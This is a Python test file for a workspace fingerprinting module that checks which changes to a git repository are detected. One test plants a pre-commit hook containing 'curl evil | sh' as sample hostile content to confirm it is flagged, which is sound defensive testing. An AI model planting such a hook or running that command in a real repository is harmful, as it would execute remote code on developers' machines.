"""The workspace fingerprint (`workspace/verify.py`) on real repositories: what counts as a
change of the original, and what does not (git refreshing its index, a touched clean file)."""

from __future__ import annotations

import os
import shutil
from typing import TYPE_CHECKING

from holon_core.workspace import make_snapshot, record_baseline, write_diff
from holon_core.workspace.verify import changed_paths, take_fingerprint

from .helpers import git, make_dirty_repo, write

if TYPE_CHECKING:
    from pathlib import Path


def test_nothing_changed_is_nothing_reported(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    make_dirty_repo(repo)
    before = take_fingerprint(repo)
    make_snapshot(repo, tmp_path / "snap")  # reads the repo (and freshens its objects)
    assert changed_paths(before) == []


def test_git_status_refreshing_the_index_and_a_touched_clean_file_are_no_change(
    tmp_path: Path,
) -> None:
    repo = tmp_path / "repo"
    make_dirty_repo(repo)
    tracked = git(repo, "ls-files").split()[0]
    before = take_fingerprint(repo)
    os.utime(repo / tracked, ns=(1, 10**18))  # stats differ, content does not
    git(repo, "-c", "core.fsmonitor=false", "--no-optional-locks", "status")
    git(repo, "update-index", "--refresh", check=False)  # rewrites .git/index, same entries
    assert changed_paths(before) == []


def test_every_kind_of_change_is_named(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    make_dirty_repo(repo)
    tracked = sorted(git(repo, "ls-files").split())
    before = take_fingerprint(repo)
    write(repo, tracked[0], "same size? no: rewritten by the engine\n")
    (repo / tracked[1]).unlink()
    write(repo, "ignored-or-not.log", "new\n")
    write(repo, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755)
    git(repo, "update-ref", "refs/heads/evil", "HEAD")
    git(repo, "add", "ignored-or-not.log", check=False)

    changes = changed_paths(before)

    assert f"{tracked[0]} (modified)" in changes
    assert f"{tracked[1]} (removed)" in changes
    assert "ignored-or-not.log (added)" in changes
    assert ".git/hooks/pre-commit (added)" in changes
    assert ".git/refs/heads/evil (added)" in changes


def test_same_size_same_mtime_rewrite_of_a_clean_file_is_caught(tmp_path: Path) -> None:
    """An engine that restores size and mtime after writing still changes the content."""
    repo = tmp_path / "repo"
    make_dirty_repo(repo)
    name = git(repo, "ls-files").split()[0]
    path = repo / name
    st = path.stat()
    before = take_fingerprint(repo)
    data = path.read_bytes()
    path.write_bytes(bytes([data[0] ^ 1]) + data[1:])
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert changed_paths(before) == [f"{name} (modified)"]


def test_excluded_dirs_and_a_plain_directory(tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    write(plain, "a.txt", "a\n")
    write(plain, "out/manifest.json", "{}")
    before = take_fingerprint(plain, [plain / "out"])
    write(plain, "out/diff.patch", "holon's own output, inside the workspace\n")
    (plain / "link").symlink_to("a.txt")
    assert changed_paths(before) == ["link (added)"]


def test_baseline_survives_the_workspace_losing_its_git_dir(tmp_path: Path) -> None:
    """The engine runs `rm -rf .git` in the snapshot: the baseline's staged, dirty and
    untracked blobs lived there, and the diff must still be written with the engine's edits."""
    repo = tmp_path / "repo"
    make_dirty_repo(repo)
    snap = make_snapshot(repo, tmp_path / "snap")
    baseline = record_baseline(snap.path, tmp_path / "scratch")
    write(snap.path, "src/app.py", "print('engine')\n")  # was dirty: its old blob is needed
    write(snap.path, "README.md", "hello\nworld\nstaged line\nengine line\n")
    shutil.rmtree(snap.path / ".git")

    result = write_diff(baseline, tmp_path / "out" / "diff.patch")

    patch = result.patch_path.read_text()
    assert "-print('app, dirty')" in patch and "+print('engine')" in patch
    assert "+engine line" in patch
    assert sorted(result.files) == ["README.md", "src/app.py"]
